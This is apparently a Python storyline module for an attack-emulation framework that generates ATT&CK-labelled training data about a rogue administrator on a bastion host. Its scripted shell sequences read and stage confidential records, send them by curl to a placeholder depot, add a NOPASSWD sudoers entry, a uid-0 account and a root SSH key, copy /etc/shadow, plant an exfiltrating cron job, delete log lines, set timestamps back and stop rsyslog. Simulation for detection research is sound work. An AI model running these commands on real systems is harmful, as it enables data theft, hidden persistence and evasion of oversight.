"""An administrator with a good password and sudo does what he should not: documents, accounts, rules and logs."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pages
from plot import Storyline

if TYPE_CHECKING:
    from intruder import Intruder

MIDDLE = (5.0, 22.0, 10.0)

WEAKEN = r"""
set -e
getent group records >/dev/null || groupadd records
for folder in personnel tenders council; do
    install -d -m 2750 -o root -g records "/srv/records/$folder"
done
for n in $(seq 1 40); do
    printf 'Personnel sheet %03d\nName: employee %d\nSalary band: %d\nReview: sample text, nothing real.\n' \
        "$n" "$n" "$((n % 9))" > "/srv/records/personnel/sheet-$(printf %03d "$n").txt"
    [ "$n" -gt 15 ] || printf 'Tender %d-2025\nBidder: Sample Supply %d\nSum: %d EUR\nopened: no\n' \
        "$n" "$n" "$((n * 7919))" > "/srv/records/tenders/bid-$n.txt"
    [ "$n" -gt 12 ] || printf 'Council minutes %d\nItem 1: sample. Item 2: sample. Not for circulation.\n' "$n" \
        > "/srv/records/council/minutes-$n.md"
done
chown -R root:records /srv/records && chmod -R o-rwx /srv/records && chmod 751 /srv/records
cat > /usr/local/sbin/records-index <<'EOF'
#!/bin/bash
# list of the records with check sums, and a small archive of what changed
cd /srv/records || exit 1
find . -type f -print0 | sort -z | xargs -0 sha256sum > /var/backups/records.sums.new
cmp -s /var/backups/records.sums.new /var/backups/records.sums || tar -czf /var/backups/records.tgz .
mv /var/backups/records.sums.new /var/backups/records.sums
chmod 640 /var/backups/records.*
logger -t records "$(wc -l < /var/backups/records.sums) records"
EOF
chmod 755 /usr/local/sbin/records-index
printf '*/6 * * * * root /usr/local/sbin/records-index\n' > /etc/cron.d/records
"""

DIRECT = """
== log on | TA0001 | The administrator logs on at an odd place with his own password.
T1078.003 id; who
T1082 uptime; df -h | head -5
T1562.003 unset HISTFILE; export HISTSIZE=0
== what is there | TA0007 | Folders that are none of his business.
T1083 ls -la /srv /srv/records
T1083 ls /srv/records/personnel
T1083 sudo ls -la /srv/records/personnel /srv/records/tenders | head -40
T1069.001 getent group records sudo adm
T1083 sudo find /srv/records -type f -newer /etc/hostname | wc -l
== reading | TA0009 | Sheets and bids are read, then copied under another name.
T1005 sudo cat /srv/records/personnel/sheet-00{d}.txt
T1005 sudo sh -c 'cat /srv/records/personnel/sheet-0[0-3]{d}.txt' | grep -A1 Name
T1005 sudo grep -rh 'Sum:' /srv/records/tenders | sort -k2 -n | tail -5
? T1005 sudo sed -n 1,20p /srv/records/council/minutes-3.md
T1074.001 mkdir -p ~/.cache/{w}; sudo cp -r /srv/records/personnel ~/.cache/{w}/thumbs
T1074.001 sudo cp /srv/records/tenders/bid-* ~/.cache/{w}/
T1074.001 sudo find /srv/records/tenders -name "bid-*" -exec cp {} ~/.cache/{w}/ \\;
T1222.002 sudo chown -R $(id -un): ~/.cache/{w}
T1560.001 tar czf ~/.cache/{w}.tgz -C ~/.cache {w} && rm -rf ~/.cache/{w}; ls -l ~/.cache
T1048.003 curl -s -m 20 -T ~/.cache/{w}.tgz {depot}/{w}.tgz
== an account for later | TA0003 | A service account that may do everything through sudo.
T1136.001 sudo useradd -r -m -d /var/lib/{acct} -s /bin/bash -c '{acct} agent' {acct}
T1098 echo '{acct}:{pass}' | sudo chpasswd
T1098.007 sudo usermod -aG adm,records {acct}
T1548.003 echo '{acct} ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/{acct}
T1222.002 sudo chmod 440 /etc/sudoers.d/{acct}; sudo visudo -c
T1136.001 getent passwd {acct}; id {acct}
T1078.003 sudo -u {acct} sudo -n id
== traces | TA0005 | Lines are cut from the logs and times are set back.
T1654 sudo grep -c {acct} /var/log/auth.log
T1070.002 sudo sed -i '/{acct}/d' /var/log/auth.log
T1070.002 sudo sed -i '/records\\/personnel/d;/records\\/tenders/d' /var/log/auth.log
T1070.006 sudo touch -r /etc/sudoers.d/README /etc/sudoers.d/{acct}
T1070.006 sudo touch -d 'last month' /etc/passwd /etc/group /etc/shadow
T1070.004 shred -u ~/.cache/{w}.tgz
T1070.003 history -c; rm -f ~/.bash_histroy
"""

ROUTINE = """
== a quiet start | TA0001 | He logs on and looks about as on every day.
T1078.003 w
T1082 uptime; free -m
T1057 ps aux --sort=-%cpu | head -8
? T1007 sudo service --status-all 2>/dev/null | head -20
== reading between rounds | TA0009 | Between two ordinary looks he opens one document at a time.
T1083 sudo ls -l /srv/records/council
T1005 sudo head -n 20 /srv/records/council/minutes-{d}.md
? T1082 df -h /srv /var
T1654 sudo tail -n 8 /var/log/auth.log
T1005 sudo bash -c 'cat /srv/records/personnel/sheet-0*' | awk '/Salary/{s[$3]++} END{for(k in s) print k, s[k]}'
T1005 sudo python3 -c "import glob; print(*[open(p).read() for p in
    sorted(glob.glob('/srv/records/tenders/bid-1*.txt'))])" | grep -A2 '^Tender'
? T1049 ss -tn state established | head
T1222.002 sudo setfacl -R -m u:$(id -un):rX /srv/records/tenders; getfacl -p /srv/records/tenders | grep user
T1005 ls -lt /srv/records/tenders | head -4; cat /srv/records/tenders/bid-{d}.txt
== membership | TA0003 | He puts himself into the group of the records for the time being.
T1069.001 id; getent group records
T1098.007 sudo gpasswd -a $(id -un) records
T1098.007 sudo sg records -c 'ls /srv/records/personnel | wc -l'
== out in small pieces | TA0010 | A handful of files goes out slowly, as a health report would.
T1074.001 sudo sh -c 'cat /srv/records/tenders/*.txt | gzip -c > /var/tmp/df-{w}.log'; sudo chmod 644
    /var/tmp/df-{w}.log
T1030 split -b 400 -d /var/tmp/df-{w}.log /var/tmp/df-{w}.
T1030 curl -s -m 9 -X POST -H 'X-Report: df' --data-binary @/var/tmp/df-{w}.00 {depot}/report
T1030 curl -s -m 9 -X POST -H 'X-Report: df' --data-binary @/var/tmp/df-{w}.01 {depot}/report
? T1082 vmstat 1 2 | tail -1
T1029 for f in /var/tmp/df-{w}.0[2-9]; do [ -f $f ] && curl -s -m 9 --data-binary @$f {depot}/report; sleep 2; done
== back to normal | TA0005 | Memberships, modes and times are as before; two lines leave the log.
T1070 sudo gpasswd -d $(id -un) records
T1222.002 sudo setfacl -R -b /srv/records/tenders; sudo chmod 2750 /srv/records/tenders
T1070.004 sudo rm -f /var/tmp/df-{w}.*
T1070.002 sudo perl -ni -e 'print unless /gpasswd|setfacl/' /var/log/auth.log
T1070.006 sudo touch -a -m -t 202502030915.10 /srv/records/tenders
T1082 uptime
"""

SCRIPTED = """
== root at once | TA0004 | He takes a root shell, as he does for updates.
T1078.003 hostname; tty
T1548.003 sudo -i
T1562.003 set +o history
== collecting by script | TA0009 | A script with a dull name gathers what was read last.
T1083 ls -la /usr/local/sbin /srv/records
T1119 cat > /usr/local/sbin/{tool} <<'EOF'
#!/bin/sh
# nightly consistency of the record store
d=$(mktemp -d /var/tmp/.{w}XXXX)
find /srv/records -name '*[05].*' -exec cp -p {} "$d" \\;
tar -C "$d" -cf - . | xz -1 > /var/tmp/{w}.bin
find "$d" -type f -delete; rmdir "$d"
curl -s -m 20 --data-binary @/var/tmp/{w}.bin {depot}/c/$(hostname) >/dev/null; rm -f /var/tmp/{w}.bin
EOF
T1222.002 chmod 750 /usr/local/sbin/{tool}
T1119 {tool}
T1119 bash -x /usr/local/sbin/{tool} 2>&1 | tail -4
T1053.003 printf 'PATH=/usr/local/sbin:/usr/sbin:/usr/bin:/sbin:/bin\\n*/{mins} * * * * root {tool}\\n' >
    /etc/cron.d/{tool}
== a key of his own | TA0003 | Root takes a further key, in an options line that hides it among others.
T1083 ls -la /root/.ssh; wc -l /root/.ssh/authorized_keys
T1098.004 mkdir -p /root/.ssh; echo 'no-agent-forwarding {public}' >> /root/.ssh/authorized_keys
T1564.001 install -d -m 700 /var/lib/.{w}; cp /etc/shadow /var/lib/.{w}/s
T1003.008 awk -F: 'length($2)>20{print $1, substr($2,1,12)}' /var/lib/.{w}/s
T1098 useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {acct} && echo '{acct}:{pass}' | chpasswd
T1136.001 tail -n 2 /etc/passwd
T1036.010 chfn -f 'System Account' {acct}
? T1110.002 python3 -c "import crypt; h=open('/etc/shadow').read(); print(crypt.crypt('{pass}', '\\$6\\$ab\\$')[:20])"
== loud for a moment | TA0005 | Journals and login records are thinned out, the syslog is looked at first.
T1654 grep -cE 'sudo|useradd|chpasswd' /var/log/auth.log; ls -la /var/log | head -20
T1070.002 sed -i.{w} -e '/useradd/d' -e '/chpasswd/d' -e '/chfn/d' /var/log/auth.log; rm -f /var/log/auth.log.{w}
T1070.002 %rev for f in /var/log/lastlog /var/log/btmp; do [ -f $f ] && : > $f; done
T1070.006 touch -r /usr/sbin/logrotate /usr/local/sbin/{tool} /etc/cron.d/{tool}
T1562.001 service rsyslog stop; echo 'local7.* /dev/null' > /etc/rsyslog.d/{w}.conf 2>/dev/null || true
? T1222.002 chattr +i /etc/cron.d/{tool}; lsattr /etc/cron.d/{tool}
T1070.004 rm -rf /var/lib/.{w}
T1548.003 exit
T1033 id; whoami
T1070.003 cat /dev/null > ~/.bash_history
"""

AGAIN = """
== later | TA0003 | In the evening he tries the account that he made.
T1078.003 id
T1548.003 sudo -n id || id
T1083 ls /srv/records
T1005 sudo -n cat /srv/records/council/minutes-1.md || cat /srv/records/council/minutes-1.md
T1654 sudo -n tail -n 4 /var/log/auth.log || tail -n 4 /var/log/auth.log
"""


def account(own: Intruder) -> str:
    """A name that a service could have, used once on this host."""
    return (
        own.pick(("agent", "sync", "probe", "relay", "smtp", "dhcp"))
        + own.pick(("d", "-ro", "-svc", "2"))
        + str(own.rng.randint(3, 98))
    )


def play(own: Intruder) -> None:
    who = own.pick(own.entry.admins)
    password = own.job["people"][own.entry.name][who]["password"]
    private, public = pages.key_pair(f"{who}@laptop")
    names = {
        "w": own.word(),
        "acct": account(own),
        "pass": f"{own.word().capitalize()}-{own.rng.randint(11, 98)}",
        "tool": own.pick(("records", "store", "index")) + "-" + own.pick(("verify", "compact", "rescan", "age")),
        "d": str(own.rng.randint(1, 9)),
        "mins": str(own.rng.randint(4, 9)),
        "public": public,
        "depot": own.depot,
    }
    own.step("valid account", "TA0001", "He comes with his own name and password, from a machine that is not his.")
    shell = own.ssh(own.entry, who, password=password, technique="T1078.003")
    act = pages.typed(shell, password)
    middle = MIDDLE[own.variant]
    page = (DIRECT, ROUTINE, SCRIPTED)[own.variant]
    if own.variant == 2:
        before, mark, after = page.partition("T1053.003 ")
        pages.follow(own, before, act, names, middle)
        own.plant(own.entry, f"/usr/local/sbin/{names['tool']}", "T1053.003")
        page = mark + after
    pages.follow(own, page, act, names, middle)
    shell.close()
    own.think(middle * 3)
    if own.variant == 0:
        shell = own.ssh(own.entry, names["acct"], password=names["pass"], technique="T1078.003")
        pages.follow(own, AGAIN, pages.typed(shell), names, middle)
        shell.close()
    elif own.variant == 2:
        shell = own.ssh(own.entry, "root", key=private, technique="T1098.004")
        pages.follow(own, AGAIN, pages.typed(shell), names, middle)
        shell.close()


STORYLINE = Storyline(
    name="insider-admin",
    split="train",
    words="An administrator of the bastion uses his own account and sudo for what he must not do: he reads and takes "
    "records of other departments, makes accounts, rules, keys or a job for himself, cuts lines out of the logs and "
    "sets times back; in one way so slowly that it looks like routine.",
    weaken=WEAKEN,
    play=play,
    variants=3,
    hosts=("gate-04",),
    minutes=16,
)
